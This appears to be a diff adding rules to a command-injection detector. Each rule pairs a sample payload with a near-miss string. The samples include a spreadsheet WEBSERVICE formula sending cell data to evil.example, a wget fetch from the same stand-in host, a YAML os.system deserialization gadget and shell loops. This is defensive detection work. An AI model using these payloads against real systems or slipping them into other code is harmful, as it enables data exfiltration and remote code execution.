+    category: "command-injection",
+    severity: "medium",
+    catches: "A cell of a spreadsheet that reaches the network or a program",
+    example: '=WEBSERVICE("http://evil.example/"&A1)',
+    nearMiss: "=SUM(A1:A9) call webservice(x)",
+    at: ["hyperlink", "importxml", "importdata", "importfeed", "importhtml", "importrange", "webservice", "dde", "exec"]
+      .map(word),
+    test: isFormula,
+  },
+  {
+    name: "cmd-block",
+    category: "command-injection",
+    severity: "medium",
+    catches: "A loop or a condition of a shell in one line",
+    example: "; while true; do id; done",
+    nearMiss: "lunch; done",
+    at: ["done", "fi", "esac"].map(word),
+    gate: "separator",
+    test: isShellBlock,
+  },
+  {
+    name: "cmd-encoded-line-break",
+    category: "command-injection",
+    severity: "medium",
+    catches: "A percent-encoded line break with a command behind it",
+    example: "x%0aid",
+    nearMiss: "%0aids %0Aid=5",
+    weak: true,
+    at: ["%0"],
+    test: isEncodedLineBreak,
+  },
+  {
+    name: "cmd-serialized",
+    category: "command-injection",
+    severity: "medium",
+    catches:
+      "Serialised objects that run code when they are made: YAML tags of languages, PHP, known classes of Java and .NET",
+    example: '!!python/object/apply:os.system ["id"]',
+    nearMiss: '!!str 5 !!binary x {"o":8}',
+    at: ["!!", "!r", ...["o", "jdbcrowsetimpl", "objectdataprovider"].map(word)],
+    test: isSerializedObject,
+  },
+  {
+    name: "cmd-line",
+    category: "command-injection",
+    severity: "medium",
+    catches: "A text that is the command line of a program which no sentence names",
+    example: "wget -q http://evil.example/x",
+    nearMiss: "curl 7.88.1, hostname - a",
+    at: wordsOf(SURE).filter((number) => (WORD_TEXT[number] as string).length > 3),
+    test: isCommandLine,
+  },
+  {
+    name: "cmd-line-short",
+    category: "command-injection",
+    severity: "medium",
+    weak: true,
+    catches:
+      "The same with a name of at most three letters: a text that is the command line of a program which no sentence names",
+    example: "ls -la /root",
+    nearMiss: "mv -5 cp 7 rm: gone",
+    at: wordsOf(SURE).filter((number) => (WORD_TEXT[number] as string).length <= 3),
+    gate: "separator",
+    test: isCommandLine,
   },
   {
     name: "cmd-chmod",
